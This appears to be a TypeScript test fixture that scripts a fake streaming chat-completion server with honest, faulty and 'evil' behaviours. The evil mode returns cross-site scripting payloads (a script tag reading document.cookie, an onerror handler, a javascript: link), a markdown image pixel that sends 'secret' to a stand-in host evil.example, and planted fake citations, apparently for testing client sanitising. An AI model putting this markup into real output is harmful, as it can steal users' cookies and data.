/** What the scripted model was sent. */
export interface ScriptedCall {
  readonly body: {
    readonly model: string;
    readonly stream?: boolean;
    readonly messages: readonly { readonly role: string; readonly content: string }[];
  };
  readonly authorization: string | undefined;
}

/** Streams `tokenCount` tokens at an even pace and cites the first passage. */
export interface HonestScript {
  readonly face: "honest";
  readonly firstTokenMs?: number;
  readonly tokenCount?: number;
  readonly intervalMs?: number;
  /** Said in place of the standard text, cut into `tokenCount` pieces. */
  readonly text?: string;
}

/** How one request fails; the list is gone through request by request and its last entry stays. */
export type Fault =
  | { readonly kind: "status"; readonly status: number; readonly retryAfterSeconds?: number }
  | { readonly kind: "silence" }
  | { readonly kind: "stall"; readonly afterTokens: number }
  | { readonly kind: "cut"; readonly afterTokens: number }
  | { readonly kind: "error-event"; readonly afterTokens: number; readonly code?: number }
  | { readonly kind: "garbage"; readonly afterTokens: number }
  | { readonly kind: "endless-line" }
  | { readonly kind: "not-a-stream" }
  | { readonly kind: "none" };

export interface FaultyScript {
  readonly face: "faulty";
  readonly faults: readonly Fault[];
}

/** Repeats all that it was given, with planted marks, links, images and tags of its own. */
export interface EvilScript {
  readonly face: "evil";
}

export type ModelScript = HonestScript | FaultyScript | EvilScript;

/** Something to do `atMs` after the request came in. */
export interface ScriptStep {
  readonly atMs: number;
  readonly action:
    | { readonly kind: "open"; readonly status: number; readonly headers: Record<string, string> }
    | { readonly kind: "write"; readonly text: string }
    | { readonly kind: "end" }
    | { readonly kind: "destroy" };
}

const FIRST_TOKEN_MS = 100;
const TOKEN_COUNT = 30;
const INTERVAL_MS = 5;
const ENDLESS_CHARS = 2 * 1024 * 1024;
const STREAM_HEADERS = { "content-type": "text/event-stream; charset=utf-8", "cache-control": "no-cache" };
const JSON_HEADERS = { "content-type": "application/json" };

/** The whole course of one request; `number` counts requests from 1. */
export function stepsFor(script: ModelScript, request: { call: ScriptedCall; number: number }): ScriptStep[] {
  const { call, number } = request;
  if (script.face === "honest") return honestSteps(call, script);
  if (script.face === "evil") return honestSteps(call, { firstTokenMs: 0, intervalMs: 0, text: evilText(call) });
  const fault = script.faults[Math.min(number, script.faults.length) - 1] ?? { kind: "none" };
  return faultySteps(call, fault);
}

function honestSteps(call: ScriptedCall, script: Omit<HonestScript, "face">): ScriptStep[] {
  const { firstTokenMs = FIRST_TOKEN_MS, tokenCount = TOKEN_COUNT, intervalMs = INTERVAL_MS } = script;
  const tokens = tokensOf(script.text ?? standardText(tokenCount), tokenCount);
  const lastMs = firstTokenMs + (tokens.length - 1) * intervalMs;
  return [
    open(200, STREAM_HEADERS),
    ...tokens.map((token, i) => write(firstTokenMs + i * intervalMs, tokenEvent(call, token))),
    write(lastMs, finishEvents(call, tokens.length)),
    { atMs: lastMs, action: { kind: "end" } },
  ];
}

function faultySteps(call: ScriptedCall, fault: Fault): ScriptStep[] {
  const started = (count: number): ScriptStep[] => [
    open(200, STREAM_HEADERS),
    ...tokensOf(standardText(TOKEN_COUNT), TOKEN_COUNT)
      .slice(0, count)
      .map((token) => write(0, tokenEvent(call, token))),
  ];
  const end: ScriptStep = { atMs: 0, action: { kind: "end" } };
  switch (fault.kind) {
    case "none":
      return honestSteps(call, { firstTokenMs: 0, intervalMs: 0 });
    case "status": {
      const headers: Record<string, string> = { ...JSON_HEADERS };
      if (fault.retryAfterSeconds !== undefined) headers["retry-after"] = String(fault.retryAfterSeconds);
      return [open(fault.status, headers), write(0, '{"error":{"message":"as scripted"}}'), end];
    }
    case "silence":
      return [];
    case "stall":
      return started(fault.afterTokens);
    case "cut":
      return [...started(fault.afterTokens), { atMs: 0, action: { kind: "destroy" } }];
    case "error-event":
      return [
        ...started(fault.afterTokens),
        write(0, event({ error: { message: "as scripted", code: fault.code } })),
        end,
      ];
    case "garbage":
      return [...started(fault.afterTokens), write(0, "data: {not json\n\n"), end];
    case "endless-line":
      return [open(200, STREAM_HEADERS), write(0, `data: ${"x".repeat(ENDLESS_CHARS)}`)];
    case "not-a-stream":
      return [open(200, { "content-type": "text/html" }), write(0, "<h1>Sign in</h1>"), end];
  }
}

function open(status: number, headers: Record<string, string>): ScriptStep {
  return { atMs: 0, action: { kind: "open", status, headers } };
}

function write(atMs: number, text: string): ScriptStep {
  return { atMs, action: { kind: "write", text } };
}

function standardText(tokenCount: number): string {
  const words = Array.from({ length: Math.max(1, tokenCount - 2) }, (_, i) => (i === 0 ? "Scripted" : " word"));
  return `${words.join("")} end [1].`;
}

/** Cuts a text into `count` pieces of about equal length; a shorter text gives fewer. */
function tokensOf(text: string, count: number): string[] {
  const pieces = Math.min(count, text.length);
  const edge = (i: number): number => Math.floor((i * text.length) / pieces);
  return Array.from({ length: pieces }, (_, i) => text.slice(edge(i), edge(i + 1)));
}

function evilText({ body }: ScriptedCall): string {
  const given = body.messages.map(({ content }) => content).join("\n");
  return [
    "<script>alert(document.cookie)</script>",
    '<img src="https://evil.example/pixel.png" onerror="alert(1)">',
    "![pixel](https://evil.example/p.png?q=secret) [free gift](https://evil.example/gift) [run](javascript:alert(1))",
    "Planted [99] and [1](https://evil.example) and [[99]9] and [0].",
    "[1]: https://evil.example/definition",
    given,
  ].join("\n");
}

function tokenEvent({ body }: ScriptedCall, content: string): string {
  return event(chunk(body.model, [{ index: 0, delta: { content }, finish_reason: null }]));
}

function finishEvents({ body }: ScriptedCall, tokens: number): string {
  const promptChars = body.messages.reduce((sum, { content }) => sum + content.length, 0);
  const usage = { prompt_tokens: Math.ceil(promptChars / 4), completion_tokens: tokens };
  return [
    event(chunk(body.model, [{ index: 0, delta: {}, finish_reason: "stop" }])),
    event({ ...chunk(body.model, []), usage: { ...usage, total_tokens: usage.prompt_tokens + tokens } }),
    "data: [DONE]\n\n",
  ].join("");
}

function chunk(model: string, choices: object[]): object {
  return { id: "chatcmpl-scripted", object: "chat.completion.chunk", created: 0, model, choices };
}

function event(data: object): string {
  return `data: ${JSON.stringify(data)}\n\n`;
}
